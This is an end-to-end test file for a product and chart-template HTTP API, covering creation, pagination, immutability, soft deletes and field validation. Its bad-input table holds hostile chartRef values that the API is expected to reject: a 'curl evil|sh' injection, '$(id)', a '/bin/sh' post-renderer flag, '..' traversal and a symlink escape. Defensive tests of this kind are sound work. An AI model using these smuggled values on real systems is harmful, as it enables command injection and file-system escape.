// Products and their immutable template versions through HTTP: validation of every field
// (semver, chart references, digests, schemas, capabilities), duplicates and soft deletes.
import { rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { bearer, TestApi, uniqueName } from '../support/api';
import { createUser, E2eSuite, exampleTemplate, NIL_UUID, REPO_ROOT, startSuite, TestDb, TestUser, uniqueDomain } from '../support/e2e';

const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;
const fieldsOf = (body: { fields?: { field: string }[] }) => (body.fields ?? []).map((f) => f.field);

describe('products and templates (e2e)', () => {
  let suite: E2eSuite;
  let api: TestApi;
  let db: TestDb;
  let admin: Record<string, string>;
  let user: TestUser;
  let escapeLink: string;

  beforeAll(async () => {
    suite = await startSuite();
    ({ api, db } = suite);
    admin = bearer(api.adminToken);
    user = await createUser(api, 'catalog');
    // A symlink placed inside the chart roots that points at a real chart outside them.
    escapeLink = join(REPO_ROOT, 'charts', `.e2e-escape-${process.pid}`);
    symlinkSync(join(REPO_ROOT, 'test', 'integration', 'fixtures', 'charts', 'stack-probe'), escapeLink);
  });

  afterAll(async () => {
    if (escapeLink) rmSync(escapeLink, { force: true });
    await suite?.close();
  });

  /** Asserts a 400 naming `field`, and that nothing was written. */
  async function refused(send: () => Promise<{ status: number; body: { fields?: { field: string }[]; message?: string } }>, field: string, status = 400) {
    const before = await db.snapshot();
    const res = await send();
    expect({ status: res.status, fields: fieldsOf(res.body) }).toEqual({ status, fields: expect.arrayContaining([field]) });
    expect(typeof res.body.message).toBe('string');
    expect(await db.snapshot()).toEqual(before);
    return res;
  }

  describe('products', () => {
    it('creates, reads, lists, renames and describes a product', async () => {
      const name = uniqueName('prod');
      const created = await api.http.post('/products').set(admin).send({ name, description: 'A product' }).expect(201);
      expect(created.body).toEqual({ id: expect.any(String), name, description: 'A product', allowedDomainSuffixes: null, createdAt: expect.any(String), updatedAt: expect.any(String) });
      const id = created.body.id;
      expect((await api.http.get(`/products/${id}`).set(bearer(user.token)).expect(200)).body.name).toBe(name);

      const renamed = uniqueName('renamed');
      expect((await api.http.put(`/products/${id}`).set(admin).send({ name: renamed }).expect(200)).body).toMatchObject({ id, name: renamed, description: 'A product' });
      expect((await api.http.put(`/products/${id}`).set(admin).send({ description: 'new' }).expect(200)).body).toMatchObject({ name: renamed, description: 'new' });
      expect((await api.http.put(`/products/${id}`).set(admin).send({}).expect(200)).body).toMatchObject({ name: renamed, description: 'new' });

      const seen: string[] = [];
      let cursor: string | null = null;
      do {
        const page: { body: { items: { id: string }[]; nextCursor: string | null } } = await api.http
          .get('/products')
          .query({ limit: 3, ...(cursor ? { cursor } : {}) })
          .set(bearer(user.token))
          .expect(200);
        seen.push(...page.body.items.map((p) => p.id));
        cursor = page.body.nextCursor;
      } while (cursor);
      expect(seen).toContain(id);
      expect(new Set(seen).size).toBe(seen.length);
    });

    it('refuses a taken name with a 409 on create and rename', async () => {
      const taken = uniqueName('taken');
      await api.http.post('/products').set(admin).send({ name: taken }).expect(201);
      const other = await api.http
        .post('/products')
        .set(admin)
        .send({ name: uniqueName('other') })
        .expect(201);
      const res = await refused(() => api.http.post('/products').set(admin).send({ name: taken }), 'name', 409);
      expect(res.body.message).toMatch(/already exists/);
      await refused(() => api.http.put(`/products/${other.body.id}`).set(admin).send({ name: taken }), 'name', 409);
    });

    describe('refuses bad product input', () => {
      it.each([
        ['a missing name', {}, 'name'],
        ['a numeric name', { name: 7 }, 'name'],
        ['an empty name', { name: '' }, 'name'],
        ['an upper-case name', { name: 'WebApp' }, 'name'],
        ['a name with spaces', { name: 'web app' }, 'name'],
        ['a name with a trailing dash', { name: 'webapp-' }, 'name'],
        ['a name over 40 characters', { name: 'x'.repeat(41) }, 'name'],
        ['a description that is not a string', { name: 'ok', description: { html: true } }, 'description'],
        ['a description over 2000 characters', { name: 'ok', description: 'x'.repeat(2001) }, 'description'],
        ['an unknown field', { name: 'ok', owner: 'me' }, 'owner'],
        ['an id in the body', { name: 'ok', id: NIL_UUID }, 'id'],
      ])('POST with %s', async (_, body, field) => {
        await refused(() => api.http.post('/products').set(admin).send(body), field);
      });

      it.each([
        ['a bad name', { name: 'Bad Name' }, 'name'],
        ['an unknown field', { deletedAt: null }, 'deletedAt'],
        ['a numeric description', { description: 5 }, 'description'],
      ])('PUT with %s', async (_, body, field) => {
        const p = await api.http
          .post('/products')
          .set(admin)
          .send({ name: uniqueName('put') })
          .expect(201);
        await refused(() => api.http.put(`/products/${p.body.id}`).set(admin).send(body), field);
      });

      it('bad UUIDs and unknown products', async () => {
        for (const [method, path] of [
          ['get', '/products/123'],
          ['put', '/products/123'],
          ['delete', '/products/123'],
          ['get', '/products/123/templates'],
          ['post', '/products/123/templates'],
          ['get', `/products/${NIL_UUID}/templates/123`],
          ['delete', `/products/${NIL_UUID}/templates/not-a-uuid`],
        ] as const) {
          const res = await api.http[method](path)
            .set(admin)
            .send(method === 'put' ? { description: 'x' } : method === 'post' ? exampleTemplate('1.0.0') : undefined);
          expect({ path, method, status: res.status }).toEqual({ path, method, status: 400 });
          expect(res.body.fields[0].message).toBe('must be a UUID');
        }
        await api.http.get(`/products/${NIL_UUID}`).set(admin).expect(404);
        await api.http.put(`/products/${NIL_UUID}`).set(admin).send({ description: 'x' }).expect(404);
        await api.http.get(`/products/${NIL_UUID}/templates`).set(admin).expect(404);
        const before = await db.snapshot();
        await api.http.post(`/products/${NIL_UUID}/templates`).set(admin).send(exampleTemplate('1.0.0')).expect(404);
        expect(await db.snapshot()).toEqual(before);
      });
    });

    it('deletes softly and idempotently, freeing the name', async () => {
      const name = uniqueName('gone');
      const p = await api.http.post('/products').set(admin).send({ name }).expect(201);
      await api.http.delete(`/products/${p.body.id}`).set(admin).expect(204);
      await api.http.delete(`/products/${p.body.id}`).set(admin).expect(204);
      await api.http.get(`/products/${p.body.id}`).set(admin).expect(404);
      const [row] = await db.query<{ deleted_at: Date | null }>(`select deleted_at from products where id = $1`, [p.body.id]);
      expect(row.deleted_at).toBeInstanceOf(Date);
      await api.http.post('/products').set(admin).send({ name }).expect(201);
    });

    it('refuses to delete a product that still has deployments (409)', async () => {
      const p = await api.http
        .post('/products')
        .set(admin)
        .send({ name: uniqueName('busy') })
        .expect(201);
      const t = await api.http.post(`/products/${p.body.id}/templates`).set(admin).send(exampleTemplate('1.0.0')).expect(201);
      await api.http.post(`/users/${user.id}/deployments`).set(admin).send({ templateId: t.body.id, domainName: uniqueDomain() }).expect(202);
      expect((await api.http.delete(`/products/${p.body.id}`).set(admin).expect(409)).body.message).toMatch(/still has deployments/);
    });
  });

  describe('templates', () => {
    let productId: string;

    beforeAll(async () => {
      productId = (
        await api.http
          .post('/products')
          .set(admin)
          .send({ name: uniqueName('tpl') })
          .expect(201)
      ).body.id;
    });

    const post = (body: Record<string, unknown>) => api.http.post(`/products/${productId}/templates`).set(admin).send(body);
    const valid = (over: Record<string, unknown> = {}) => ({ ...exampleTemplate('1.0.0'), version: `0.0.${Math.floor(Math.random() * 1e9)}`, ...over });

    it('creates a template from a local example chart with its values schema, and reads it back', async () => {
      const body = exampleTemplate('1.0.0');
      const res = await post({ ...body, capabilities: { quota: { cpu: '2', memory: '2Gi' }, limits: { default: { cpu: '500m' } }, upgradePolicy: { allowFrom: '>=1.0.0' } } }).expect(201);
      expect(res.body).toMatchObject({
        id: expect.any(String),
        productId,
        version: '1.0.0',
        chartRef: body.chartRef,
        chartVersion: '1.0.0',
        chartDigest: null,
        valuesSchema: body.valuesSchema,
        defaultValues: body.defaultValues,
      });
      expect(res.body.capabilities.upgradePolicy).toEqual({ allowFrom: '>=1.0.0' });
      expect((await api.http.get(`/products/${productId}/templates/${res.body.id}`).set(bearer(user.token)).expect(200)).body).toEqual(res.body);
      const list = await api.http.get(`/products/${productId}/templates?limit=1`).set(bearer(user.token)).expect(200);
      expect(list.body.items).toHaveLength(1);
    });

    it('creates an oci:// template pinned by digest', async () => {
      const res = await post(valid({ chartRef: 'oci://127.0.0.1:5001/charts/webapp', chartDigest: DIGEST })).expect(201);
      expect(res.body).toMatchObject({ chartRef: 'oci://127.0.0.1:5001/charts/webapp', chartDigest: DIGEST });
    });

    it('accepts a second version whose schema has the same $id', async () => {
      const schema = { $id: `https://charts.example.com/${uniqueName('s')}.json`, type: 'object' };
      await post(valid({ valuesSchema: schema })).expect(201);
      await post(valid({ valuesSchema: schema })).expect(201);
    });

    it('refuses a version that already exists: templates are immutable (409)', async () => {
      const body = valid();
      await post(body).expect(201);
      const res = await refused(() => post({ ...body, chartVersion: '1.1.0', chartRef: exampleTemplate('1.1.0').chartRef }), 'version', 409);
      expect(res.body.message).toMatch(/immutable/);
    });

    it('has no route to change a template', async () => {
      const t = await post(valid()).expect(201);
      for (const method of ['put', 'patch'] as const) {
        await api.http[method](`/products/${productId}/templates/${t.body.id}`).set(admin).send({ chartVersion: '9.9.9' }).expect(404);
      }
      expect((await api.http.get(`/products/${productId}/templates/${t.body.id}`).set(admin).expect(200)).body.chartVersion).toBe('1.0.0');
    });

    describe('refuses bad template input', () => {
      const chartsRoot = join(REPO_ROOT, 'charts');
      it.each([
        ['a missing version', { version: undefined }, 'version'],
        ['a missing chartRef', { chartRef: undefined }, 'chartRef'],
        ['a missing chartVersion', { chartVersion: undefined }, 'chartVersion'],
        ['a numeric version', { version: 1 }, 'version'],
        ['version "1.0"', { version: '1.0' }, 'version'],
        ['version "latest"', { version: 'latest' }, 'version'],
        ['version "v1.0.0"', { version: 'v1.0.0' }, 'version'],
        ['version "01.0.0"', { version: '01.0.0' }, 'version'],
        ['version " 1.0.0"', { version: ' 1.0.0' }, 'version'],
        ['version "1.0.0.0"', { version: '1.0.0.0' }, 'version'],
        ['a chartVersion that is not semver', { chartVersion: 'stable' }, 'chartVersion'],
        ['a relative chart path', { chartRef: 'charts/examples/webapp-1.0.0' }, 'chartRef'],
        ['a ".." traversal out of the chart roots', { chartRef: `${chartsRoot}/examples/../../test/integration/fixtures/charts/stack-probe` }, 'chartRef'],
        ['a path outside the chart roots', { chartRef: join(REPO_ROOT, 'test', 'integration', 'fixtures', 'charts', 'stack-probe') }, 'chartRef'],
        ['/etc', { chartRef: '/etc' }, 'chartRef'],
        ['a directory that is no chart', { chartRef: join(chartsRoot, 'examples') }, 'chartRef'],
        ['a missing directory', { chartRef: join(chartsRoot, 'examples', 'nope') }, 'chartRef'],
        ['a flag', { chartRef: '--set=image.repository=evil' }, 'chartRef'],
        ['a short flag', { chartRef: '-f' }, 'chartRef'],
        ['whitespace and a flag', { chartRef: 'oci://r.example/x --post-renderer /bin/sh' }, 'chartRef'],
        ['shell metacharacters', { chartRef: 'oci://r.example/x;curl evil|sh' }, 'chartRef'],
        ['command substitution', { chartRef: '$(id)' }, 'chartRef'],
        ['an https URL', { chartRef: 'https://charts.example.com/webapp-1.0.0.tgz' }, 'chartRef'],
        ['an oci reference with a tag', { chartRef: 'oci://r.example/charts/webapp:1.0.0', chartDigest: DIGEST }, 'chartRef'],
        ['an oci reference without a digest', { chartRef: 'oci://r.example/charts/webapp' }, 'chartDigest'],
        ['a short digest', { chartDigest: 'sha256:abc' }, 'chartDigest'],
        ['an upper-case digest', { chartDigest: `sha256:${'A'.repeat(64)}` }, 'chartDigest'],
        ['a sha512 digest', { chartDigest: `sha512:${'a'.repeat(64)}` }, 'chartDigest'],
        ['a numeric digest', { chartDigest: 5 }, 'chartDigest'],
        ['default values that are an array', { defaultValues: [1] }, 'defaultValues'],
        ['default values that are a string', { defaultValues: 'replicas: 1' }, 'defaultValues'],
        ['a schema that is an array', { valuesSchema: [] }, 'valuesSchema'],
        ['a schema ajv cannot compile', { valuesSchema: { type: 'no-such-type' } }, 'valuesSchema'],
        ['a schema with a dangling $ref', { valuesSchema: { $ref: '#/definitions/nope' } }, 'valuesSchema'],
        ['a non-boolean x-caelus-secret', { valuesSchema: { type: 'object', properties: { p: { type: 'string', 'x-caelus-secret': 'yes' } } } }, 'valuesSchema'],
        ['an unknown capability', { capabilities: { gpu: 1 } }, 'capabilities.gpu'],
        ['a bad quota', { capabilities: { quota: { cpu: 'lots' } } }, 'capabilities.quota.cpu'],
        ['a bad limit', { capabilities: { limits: { max: { memory: '1 GB' } } } }, 'capabilities.limits.max.memory'],
        ['an allowFrom that is no semver range', { capabilities: { upgradePolicy: { allowFrom: 'whenever' } } }, 'capabilities.upgradePolicy'],
        ['capabilities that are an array', { capabilities: [] }, 'capabilities'],
        ['an unknown field', { immutable: false }, 'immutable'],
      ])('%s', async (_, over, field) => {
        await refused(() => post(valid(over)), field);
      });

      it('a symlink inside the chart roots that points outside them', async () => {
        await refused(() => post(valid({ chartRef: escapeLink })), 'chartRef');
      });

      it('reports every problem at once', async () => {
        const res = await refused(() => post({ version: 'x', chartRef: '-x', chartVersion: 'y', chartDigest: 'z' }), 'version');
        expect(fieldsOf(res.body).sort()).toEqual(['chartDigest', 'chartRef', 'chartVersion', 'version']);
      });
    });

    it('gets a template only under its own product, and deletes softly and idempotently', async () => {
      const t = await post(valid()).expect(201);
      const otherProduct = (
        await api.http
          .post('/products')
          .set(admin)
          .send({ name: uniqueName('oth') })
          .expect(201)
      ).body.id;
      await api.http.get(`/products/${otherProduct}/templates/${t.body.id}`).set(admin).expect(404);
      await api.http.delete(`/products/${otherProduct}/templates/${t.body.id}`).set(admin).expect(404);

      await api.http.delete(`/products/${productId}/templates/${t.body.id}`).set(admin).expect(204);
      await api.http.delete(`/products/${productId}/templates/${t.body.id}`).set(admin).expect(204);
      await api.http.get(`/products/${productId}/templates/${t.body.id}`).set(admin).expect(404);
      const [row] = await db.query<{ deleted_at: Date | null }>(`select deleted_at from template_versions where id = $1`, [t.body.id]);
      expect(row.deleted_at).toBeInstanceOf(Date);
      const listed = await api.http.get(`/products/${productId}/templates?limit=100`).set(admin).expect(200);
      expect(listed.body.items.map((x: { id: string }) => x.id)).not.toContain(t.body.id);
      // A deleted template cannot be deployed.
      await api.http.post(`/users/${user.id}/deployments`).set(admin).send({ templateId: t.body.id, domainName: uniqueDomain() }).expect(404);
    });
  });
});
